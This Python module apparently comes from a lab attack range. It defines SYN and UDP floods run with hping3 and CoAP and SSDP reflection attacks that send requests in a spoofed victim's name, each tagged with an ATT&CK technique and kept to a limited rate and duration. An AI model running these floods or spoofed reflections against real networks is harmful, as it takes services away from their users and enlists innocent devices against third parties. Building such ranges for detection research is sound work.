"""Attacks that take a service away: floods, and questions asked in a victim's name. None sends 1000 packets a second.

References: hping3(8) (`-i u2000`: a packet every 2000 microseconds).
"""

from wardline_range.real.plan import Program, RealAttack, Touch

_UNREACHABLE = 3
_WEB, _SINK = 80, 8843
_FROM = 50000
"""The first source port; each packet has the next."""
_VICTIM_PORT = 47808
"""Something listens there, so that no refusal answers the answers."""


def _hping(*arguments: str) -> Program:
    pace = ("-s", str(_FROM), "-i", "u2000", "-c", "6000")
    return Program(tool="hping3", arguments=("-q", "-n", *arguments, *pace, "{outside}"))


SYN_FLOOD = RealAttack(
    name="syn-flood",
    title="Flood a host on the Internet with TCP connection requests",
    on="camera-1",
    techniques=("T1498.001", "T1499.001"),
    programs=(_hping("-S", "-p", str(_WEB)),),
    touches=(Touch("internet", "tcp", _WEB),),
    lasts_s=15,
    needs_hosts=("internet",),
)

UDP_FLOOD = RealAttack(
    name="udp-flood",
    title="Flood a host on the Internet with UDP datagrams of 512 bytes",
    on="camera-1",
    techniques=("T1498.001",),
    programs=(_hping("--udp", "-d", "512", "-p", str(_SINK)),),
    touches=(Touch("internet", "udp", _SINK), Touch("internet", "icmp", _UNREACHABLE)),
    lasts_s=15,
    needs_hosts=("internet",),
)


def _reflection(protocol: str) -> Program:
    reflector = {"coap": "{bulb}", "ssdp": "{gateway}"}[protocol]
    return Program(
        module="attack_reflection",
        arguments=("--protocol", protocol, "--reflector", reflector, "--victim", "{building_station}",
                   "--victim-port", str(_VICTIM_PORT)),
    )  # fmt: skip


COAP_REFLECTION = RealAttack(
    name="coap-reflection",
    title="Ask the bulb for its resources in another computer's name",
    on="laptop",
    techniques=("T1498.002",),
    programs=(_reflection("coap"),),
    touches=(Touch("bulb", "udp", 5683),),
    lasts_s=25,
    needs_hosts=("bulb", "building-station"),
)

SSDP_REFLECTION = RealAttack(
    name="ssdp-reflection",
    title="Search for the gateway's services in another computer's name",
    on="laptop",
    techniques=("T1498.002",),
    programs=(_reflection("ssdp"),),
    touches=(Touch("gateway", "udp", 1900),),
    lasts_s=25,
    needs_hosts=("gateway", "building-station"),
)

ATTACKS = (SYN_FLOOD, UDP_FLOOD, COAP_REFLECTION, SSDP_REFLECTION)
